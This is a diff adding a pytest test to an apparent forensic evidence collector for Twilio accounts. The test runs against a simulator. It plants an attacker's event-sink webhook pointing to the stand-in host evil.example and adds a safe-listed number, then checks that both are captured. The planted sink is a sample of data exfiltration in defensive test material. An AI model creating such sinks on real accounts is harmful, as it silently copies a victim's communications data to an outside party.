@@ -7,6 +7,9 @@ from pathlib import Path
 import pytest
 
 from dakkan.collect.collector import collect
+from dakkan.collect.safe_list import listed
+from dakkan.evidence.configuration import KINDS
+from dakkan.evidence.schema import TABLES
 from dakkan.evidence.store import Evidence
 from dakkan.model.window import Window
 from dakkan.simulator.account import Account
@@ -65,3 +68,30 @@ def test_all_messages_of_the_tree_come_also_those_that_wait(world: World, tmp_pa
         ]
         assert set(tables.messages.country.to_pyarrow().to_pylist()) == {"JP"}
     assert evidence.check() == []
+
+
+def test_all_configuration_can_be_read_and_what_a_thief_left_is_there(world: World, tmp_path: Path) -> None:
+    twilio = Twilio(InProcess(simulate(world)), clock=lambda: world.now, sleep=lambda _: None)
+    credential = Credential.token(world.main.sid, Secret(world.main.auth_token))
+    sink = {
+        "Description": "copy",
+        "SinkType": "webhook",
+        "SinkConfiguration": '{"destination": "https://evil.example/x", "method": "POST"}',
+    }
+    twilio.send("POST", credential, "https://events.twilio.com/v1/Sinks", form=sink)
+    number = "+37120000001"
+    twilio.send(
+        "POST", credential, "https://accounts.twilio.com/v1/SafeList/Numbers", form={"PhoneNumber": number}
+    )
+    evidence = Evidence(tmp_path, clock=lambda: world.now)
+
+    found = collect(twilio, credential, evidence, Window(world.now - timedelta(days=7), world.now))
+
+    assert not [gap for gap in found.gaps if set(KINDS) & set(gap.what.replace(",", "").split())]
+    assert evidence.collected_tables() == set(TABLES) - {"safe_list"}
+    with evidence.tables() as tables:
+        (row,) = tables["event_sinks"].to_pyarrow().to_pylist()
+    assert row["account_sid"] == world.main.sid
+    assert "evil.example" in row["fields"]
+    rows = listed(twilio, credential, world.main.sid, [number, "+37120000002"]).to_pylist()
+    assert [(row["sid"][:2], row["name"]) for row in rows] == [("GN", number)]
